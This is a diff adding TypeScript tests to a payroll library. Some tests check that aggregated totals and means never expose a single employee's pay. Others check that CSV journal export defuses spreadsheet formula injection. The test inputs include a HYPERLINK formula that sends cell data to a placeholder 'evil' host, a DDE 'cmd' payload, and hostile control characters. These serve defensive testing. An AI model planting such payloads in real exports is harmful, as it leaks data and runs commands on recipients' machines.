@@ -70,9 +70,13 @@ import {
   type Run as PayRun,
   parseData as parsePayData,
   parseRun as parsePayRun,
+  attribute as payAttribute,
+  book as payBook,
   book as payBookOf,
+  component as payComponent,
   settle as settlePay,
 } from '../../src/pay/index.js'
+import * as payroll from '../../src/payroll/index.js'
 import { verify as verifyRun, verifyChain as verifyRuns } from '../../src/payroll/index.js'
 import { describeProblems, PolicyError, problemsOf } from '../../src/problem/index.js'
 import { formatNumber, formatQuantity, fromScaled, money } from '../../src/quantity/index.js'
@@ -2035,4 +2039,141 @@ describe('payroll: a chain of runs proves what was paid', () => {
       expect(found(opened).map(([, path]) => path)).toEqual(['openings[0].settled'])
     },
   )
+})
+
+describe('payroll: what leaves a run runs nowhere, and tells of nobody alone', () => {
+  const salary = payAttribute('salary', money('CNY'), 2)
+  const bonus = payAttribute('bonus', money('CNY'), 2, { missing: '0' })
+  const book = payBook(
+    [payComponent('base', { pays: 'due' }, salary), payComponent('bonus', { pays: 'due' }, bonus)],
+    { currency: 'CNY', retro: 0 },
+  )
+  const since = '2026-01-01'
+  const members = (department: string, salaries: readonly string[], more: object = {}) =>
+    salaries.map((value, i) => ({
+      id: `${department}${i}`,
+      employment: [{ from: since }],
+      attributes: {
+        salary: [{ from: since, value }],
+        department: [{ from: since, value: department }],
+        ...(i === 0 ? more : {}),
+      },
+    }))
+  const march = (people: readonly object[]) => {
+    const data = parsePayData({ people })
+    return { book, data, run: settlePay(book, data, { period: '2026-03', before: 'first' }) }
+  }
+  const received = { bonus: [{ from: since, value: '500.00' }] }
+  const made = march([
+    ...members('audit', ['47.89'], received),
+    ...members('sales', ['10.00', '20.00', '30.00', '40.00']),
+    ...members('tech', ['1.00', '2.00', '3.00']),
+  ])
+  const groupsOf = (smallest?: number) =>
+    payroll
+      .totals(book, made.data, [made.run], { by: ['department'], smallest })
+      .paid[0]?.groups['department']?.map(({ values, total }) => [values.join(), total])
+
+  test('A39 the total of one person is told with that of the next smallest group', () => {
+    expect(groupsOf()).toEqual([
+      ['sales', '100.00'],
+      ['audit,tech', '553.89'],
+    ])
+    expect(groupsOf(1)?.[0]).toEqual(['audit', '547.89'])
+    expect(groupsOf(5)).toEqual([['audit,sales,tech', '653.89']])
+  })
+
+  test('A39 a component of one person is not told, nor had by subtraction', () => {
+    const { paid } = payroll.totals(book, made.data, [made.run], { by: ['department'] })
+    const text = JSON.stringify(paid)
+    expect(text).not.toContain('500.00')
+    expect(paid[0]?.company).toMatchObject({ components: {}, others: '653.89' })
+    const all = payroll.totals(book, made.data, [made.run], { smallest: 1 })
+    expect(all.paid[0]?.company.components).toEqual({ base: '153.89', bonus: '500.00' })
+  })
+
+  test('A39 a mean of one person is told with others', () => {
+    const means = (smallest?: number) =>
+      payroll
+        .compareRuns(made, made, { by: ['department'], smallest })
+        .groups['department']?.map(({ values, mean }) => [values.join(), mean.after])
+    expect(means()).toEqual([
+      ['sales', '25.00'],
+      ['audit,tech', '138.47'],
+    ])
+    expect(means(1)?.[0]).toEqual(['audit', '547.89'])
+  })
+
+  test('A39 a group that is small in one scenario is told with others in all', () => {
+    const { groups } = payroll.simulate({
+      ...{ book, scenarios: 2, seed: 1, by: ['department'] },
+      draw: () => made.data,
+      pay: (data) => settlePay(book, data, { period: '2026-03', before: 'first' }),
+    })
+    expect(groups['department']?.map(({ values }) => values.join())).toEqual([
+      'sales',
+      'audit,tech',
+    ])
+  })
+
+  describe('A19 a journal as CSV', () => {
+    const [row] = payroll.journal(book, made.data, made.run, {
+      by: ['department'],
+      locale: 'en',
+    }) as readonly [payroll.JournalRow]
+    const cells = (
+      change: Partial<payroll.JournalRow>,
+      options?: Parameters<typeof payroll.journalCsv>[1],
+    ) => payroll.journalCsv([{ ...row, ...change }], options).split('currency\r\n')[1] as string
+
+    test.each([
+      '=HYPERLINK("http://evil/?"&A1)',
+      "+1+cmd|'/C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\nx',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠x',
+      '  =1',
+      '\u0000=1',
+      '\u200E=1',
+    ])('runs no text: %j', (text) => {
+      for (const column of [
+        'paid',
+        'earned',
+        'person',
+        'assignment',
+        'component',
+        'label',
+        'clause',
+      ] as const)
+        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
+      expect(cells({ attributes: { department: text } })).toMatch(/(^|,)"?'/)
+      expect(cells({ label: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
+      const named = payroll.journalCsv([{ ...row, attributes: { [text]: 'x' } }])
+      expect(named).toMatch(/,"?'/)
+    })
+
+    test('keeps amounts, and a text that is no formula', () => {
+      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
+      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
+      expect(cells({ label: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
+      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
+    })
+
+    test('holds no control character', () => {
+      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
+      expect(cells({ label: hostile })).toContain(',ab[31mcdefg,')
+      expect(cells({ label: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
+      expect(cells({ label: 'two\tparts' })).toContain(',two\tparts,')
+    })
+
+    test('begins with a mark where that is asked for', () => {
+      expect(payroll.journalCsv([], { mark: true })).toBe(`\uFEFF${payroll.journalCsv([])}`)
+    })
+  })
 })
